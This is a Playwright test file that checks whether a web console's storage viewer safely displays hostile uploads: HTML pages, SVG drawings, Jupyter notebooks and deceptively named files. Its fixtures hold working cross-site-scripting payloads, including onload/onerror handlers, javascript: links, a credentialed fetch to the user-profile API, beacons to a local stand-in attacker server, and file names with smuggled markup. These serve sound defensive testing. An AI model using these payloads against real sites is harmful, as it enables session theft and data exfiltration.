import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { describeConsole, type TestConsole } from '../testing/console.ts'

const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

describeConsole('files that were made to do harm', (console) => {
  let elsewhere: Server
  let evil = ''
  const reached: string[] = []
  beforeAll(async () => {
    elsewhere = createServer((request, response) => {
      reached.push(request.url ?? '')
      response.setHeader('access-control-allow-origin', '*').end('stolen = 1')
    })
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
    evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
  })
  beforeEach(() => void reached.splice(0))
  afterAll(() => {
    elsewhere.closeAllConnections()
    elsewhere.close()
  })

  test('a page and a drawing reach neither the console nor anything elsewhere, framed or by themselves', async () => {
    const { client, open, url } = console()
    await put(console(), { 'bad/report.html': pageOf(evil, url), 'bad/drawing.svg': drawingOf(evil, url) })
    const page = await open('/data/storage/bad')
    const seen = watch(page)
    await page.getByRole('link', { name: 'report.html' }).click()
    const frame = page.frameLocator('iframe')
    await frame.getByRole('heading', { name: 'Report' }).waitFor()
    await frame.getByRole('link', { name: 'Details' }).click()
    await page.getByRole('button', { name: 'As text' }).click()
    await page.getByText('<h1>Report</h1>').first().waitFor()
    await page.goto(`${url}/data/storage/bad`)
    await page.getByRole('link', { name: 'drawing.svg' }).click()
    await page.getByRole('img', { name: 'drawing.svg' }).waitFor()
    expect(new URL(page.url()).origin).toBe(url)
    expect(await stolenFrom(page)).toBeUndefined()

    for (const path of ['bad/report.html', 'bad/drawing.svg']) {
      const { url: address } = await client.storage.open({ body: { path } })
      expect(new URL(address).origin).not.toBe(url)
      await page.goto(address)
      await page.getByText('Report').first().waitFor()
      expect(await stolenFrom(page)).toBeUndefined()
      expect(await page.title()).not.toBe('stolen')
    }
    expect(seen.filter((address) => address.includes('stolen'))).toEqual([])
    expect(reached).toEqual([])
  })

  test('a notebook, and files that are not what their names say, are text and pictures', async () => {
    const { open, url } = console()
    const script = `<script src="${evil}/stolen.js"></script><img src="${evil}/stolen.png" onerror="stolen=1">`
    const names = [`${'long '.repeat(39)}.txt`, '\u202Egnp.exe.txt', 'تقرير.txt', '"onerror=alert() <img src=x>.txt']
    await put(console(), {
      'odd/book.ipynb': notebookOf(script, evil),
      'odd/picture.png': pageOf(evil, url),
      'odd/page.txt': pageOf(evil, url),
      ...Object.fromEntries(names.map((name) => [`odd/${name}`, script])),
    })
    const page = await open('/data/storage/odd')
    const seen = watch(page)
    const show = async (name: string, found: string) => {
      await page.goto(`${url}/data/storage/odd`)
      await page.getByRole('row').filter({ hasText: name }).getByRole('link').first().click()
      await page.getByText(found, { exact: false }).first().waitFor()
    }
    await show('book.ipynb', 'plain words')
    await page.getByText('text/html').first().waitFor()
    await show('page.txt', '<h1>Report</h1>')
    for (const name of ['long long', 'gnp.exe', 'تقرير', '"onerror']) await show(name, 'stolen.js')
    await page.goto(`${url}/data/storage/odd`)
    await page.getByRole('link', { name: 'picture.png' }).click()
    await page.getByRole('img', { name: 'picture.png' }).waitFor({ state: 'attached' })
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
    expect(await stolenFrom(page)).toBeUndefined()
    expect(seen.filter((address) => address.includes('stolen'))).toEqual([])
    expect(reached).toEqual([])
  })

  test('the console loads nothing from elsewhere, wherever one goes', async () => {
    const { open, url } = console()
    const page = await open('/')
    const seen = watch(page)
    for (const path of ['/', '/jobs', '/jobs/new', '/projects', '/data/storage', '/machines', '/settings/keys']) {
      await page.goto(url + path)
      await page.getByRole('heading').first().waitFor()
    }
    const origins = new Set(
      seen.filter((address) => /^\w+:\/\//.test(address)).map((address) => new URL(address).origin),
    )
    expect([...origins]).toEqual([url])
  })
})

async function put({ client }: TestConsole, files: Record<string, string>): Promise<void> {
  for (const [path, body] of Object.entries(files)) await client.storage.put({ path, body })
}

/** Addresses of all that answers the window from now on: what its policy refuses is never sent. */
function watch(page: Page): string[] {
  const seen: string[] = []
  page.context().on('response', (response) => seen.push(response.url()))
  page.context().on('page', (popup) => seen.push(`stolen: a window was opened: ${popup.url()}`))
  return seen
}

const stolenFrom = (page: Page): Promise<unknown> => page.evaluate('globalThis.stolen')

/** Says that it has run, to whoever can hear it. */
const theft = (evil: string, url: string): string =>
  [
    'globalThis.stolen = 1',
    'document.title = "stolen"',
    `fetch("${evil}/stolen-by-fetch")`,
    `fetch("${url}/api/v1/users/me?stolen", {credentials: "include"})`,
    `open("${evil}/stolen-by-window")`,
    'try { top.stolen = 1 } catch {}',
    `top.location = "${evil}/stolen-by-navigation"`,
  ].join(';')

function pageOf(evil: string, url: string): string {
  const script = theft(evil, url)
  return `<!doctype html><html><head>
    <base href="${evil}/">
    <meta http-equiv="refresh" content="1;url=${evil}/stolen-by-refresh">
    <link rel="stylesheet" href="${evil}/stolen.css"><link rel="prefetch" href="${evil}/stolen-by-prefetch">
    <style>@import "${evil}/stolen-by-import.css"; body { background: url("${evil}/stolen-by-style") }</style>
    <script>${script}</script><script src="${evil}/stolen.js"></script>
    </head><body onload='${script}'><h1>Report</h1>
    <img src="${evil}/stolen.png" onerror='${script}'><iframe src="${evil}/stolen-by-frame"></iframe>
    <object data="${evil}/stolen-by-object"></object><video src="${evil}/stolen.mp4" autoplay></video>
    <a target="_top" href="javascript:${script.replaceAll('"', '&quot;')}">Details</a>
    <form action="${url}/api/v1/jobs?stolen" method="post"><button autofocus onfocus='${script}'>Go</button></form>
    </body></html>`
}

function drawingOf(evil: string, url: string): string {
  const script = theft(evil, url)
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload='${script}'>
    <script>${script}</script><script xlink:href="${evil}/stolen.js"/><text y="20">Report</text>
    <image width="9" height="9" xlink:href="${evil}/stolen.png"/><use xlink:href="${evil}/stolen.svg#a"/>
    <foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${evil}/stolen-by-object.png"/></foreignObject>
    </svg>`
}

function notebookOf(script: string, evil: string): string {
  const output = (data: Record<string, string>) => ({ output_type: 'display_data', data })
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="stolen=1"><image href="${evil}/stolen.png"/></svg>`
  const cells = [
    { cell_type: 'markdown', source: [script, `![x](${evil}/stolen.png)`, '[link](javascript:stolen=1)'] },
    {
      cell_type: 'code',
      source: script,
      outputs: [
        output({ 'text/html': script, 'text/plain': 'plain words' }),
        output({ 'application/javascript': 'stolen=1', 'text/html': script }),
        output({ 'image/svg+xml': svg }),
        output({ 'image/png': png }),
        output({ 'image/png': `x" onerror="stolen=1` }),
        { output_type: 'error', traceback: [`\u001B]8;;${evil}/stolen\u0007${script}\u001B]8;;\u0007`] },
      ],
    },
  ]
  return JSON.stringify({ nbformat: 4, metadata: {}, cells })
}
